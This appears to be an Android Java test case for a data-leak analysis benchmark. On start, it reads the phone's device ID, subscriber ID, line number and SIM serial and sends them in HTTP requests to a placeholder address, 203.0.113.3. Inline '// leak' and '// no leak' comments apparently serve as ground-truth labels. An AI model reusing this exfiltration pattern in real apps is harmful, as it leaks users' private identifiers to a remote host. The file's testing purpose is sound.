package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.ArrayList;
import java.util.List;

/** One helper that many ask: what a server answers is not what it was sent. */
public class Often extends Activity {
    static String ask(String address, List<String> log) throws Exception {
        log.add(address);
        HttpURLConnection connection = (HttpURLConnection) new URL(address).openConnection(); // leak
        StringBuilder answer = new StringBuilder();
        BufferedReader in = new BufferedReader(new InputStreamReader(connection.getInputStream()));
        for (String line = in.readLine(); line != null; line = in.readLine()) answer.append(line);
        return answer.toString();
    }

    static class Asker {
        final List<String> log = new ArrayList<>();

        String ask(String what) throws Exception {
            return Often.ask("http://203.0.113.3/" + what, log);
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        try {
            String a = new Asker().ask("1"), b = new Asker().ask("2"), c = new Asker().ask("3"), d = new Asker().ask("4");
            String e = new Asker().ask(a), f = new Asker().ask(b), g = new Asker().ask(c), h = new Asker().ask(d);
            String i = new Asker().ask(e), j = new Asker().ask(f), k = new Asker().ask(g), l = new Asker().ask(h);
            a = new Asker().ask("5") + new Asker().ask("6") + new Asker().ask("7") + new Asker().ask("8");
            b = new Asker().ask(i) + new Asker().ask(j) + new Asker().ask(k) + new Asker().ask(l);
            c = new Asker().ask("9") + new Asker().ask("10") + new Asker().ask("11") + new Asker().ask("12");
            d = new Asker().ask("13") + new Asker().ask("14") + new Asker().ask("15") + new Asker().ask("16");
            e = new Asker().ask("17") + new Asker().ask("18") + new Asker().ask("19") + new Asker().ask("20");
            f = new Asker().ask("21") + new Asker().ask("22") + new Asker().ask("23") + new Asker().ask("24");
            g = new Asker().ask("25") + new Asker().ask("26") + new Asker().ask("27") + new Asker().ask("28");
            TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
            h = new Asker().ask(phone.getDeviceId()) + new Asker().ask(phone.getSubscriberId());
            i = new Asker().ask(phone.getLine1Number()) + new Asker().ask(phone.getSimSerialNumber());
            new URL("http://203.0.113.3/z/" + a + b + c + d + e + f + g + h + i).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
